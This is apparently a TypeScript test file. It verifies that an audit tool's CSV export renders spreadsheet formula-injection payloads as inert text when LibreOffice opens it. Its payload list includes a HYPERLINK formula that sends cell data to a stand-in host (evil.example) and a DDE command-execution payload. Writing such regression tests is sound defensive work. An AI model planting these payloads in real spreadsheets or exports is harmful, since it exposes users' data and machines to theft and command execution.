// Formula payloads stay inert when a real spreadsheet engine opens our CSV: LibreOffice (headless) converts it to xlsx
// with formula evaluation ON; we then read the sheet XML. A control file with the same payloads NOT neutralized proves
// the engine would have made formulas of them. Skipped (with a reason) when soffice is not installed.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvString } from '../../../src-main/services/audit/csv.ts';

const PAYLOADS = ['=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(1,2)', '=cmd|\' /C calc\'!A0', '\t=1+1', '\r=2+2', '\n=3+3', "'=4+4"];
const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
// CI installs it (.ci/run), so there a missing soffice is a failure, not a skip
if (soffice.status !== 0 && process.env.CI === 'true') throw new Error('LibreOffice (soffice) is required in CI: apt-get install libreoffice-calc-nogui');
const skip = soffice.status !== 0 ? 'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui' : false;

function toSheetXml(dir: string, name: string, csv: string): { sheet: string; strings: string } {
  const path = join(dir, `${name}.csv`);
  writeFileSync(path, csv);
  // CSV filter: comma, double quote, UTF-8 (76), from line 1, column types default, ..., "evaluate formulas" = true
  execFileSync('soffice', [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', dir, path], { stdio: 'pipe', timeout: 120_000 });
  const xlsx = join(dir, `${name}.xlsx`);
  const sheet = execFileSync('unzip', ['-p', xlsx, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' });
  const strings = spawnSync('unzip', ['-p', xlsx, 'xl/sharedStrings.xml'], { encoding: 'utf8' }).stdout ?? '';
  return { sheet, strings };
}

test('formula payloads in our CSV are text cells in LibreOffice Calc; the same payloads raw become formulas', { skip, timeout: 240_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'gd-lo-'));
  try {
    const ours = toSheetXml(dir, 'ours', PAYLOADS.map((p) => csvString(p)).join('\r\n') + '\r\n');
    const cells = [...ours.sheet.matchAll(/<c r="A(\d+)"([^>]*)>(.*?)<\/c>/gs)];
    assert.equal(cells.length, PAYLOADS.length, 'one cell per payload row');
    assert.doesNotMatch(ours.sheet, /<f[ >]/, 'no formula element in the sheet');
    for (const [, , attrs] of cells) assert.match(attrs!, /t="s"/, 'every cell is a (shared) string');
    // the visible text is the original value behind one apostrophe (LibreOffice stores a lone CR as LF)
    const decode = (x: string) => x.replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#(?:\\)?#?(\d+);/g, (_m, n: string) => String.fromCharCode(Number(n))).replace(/&#x([0-9a-f]+);/gi, (_m, n: string) => String.fromCharCode(parseInt(n, 16))).replace(/&amp;/g, '&');
    const texts = [...ours.strings.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((m) => decode(m[1]!));
    assert.deepEqual(texts, PAYLOADS.map((p) => `'${p}`.replace(/\r/g, '\n')));
    const control = toSheetXml(dir, 'control', '=1+1\r\n+1+2\r\n@SUM(1,2)\r\n');
    assert.match(control.sheet, /<f[ >]/, 'control: the engine evaluates raw payloads as formulas');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
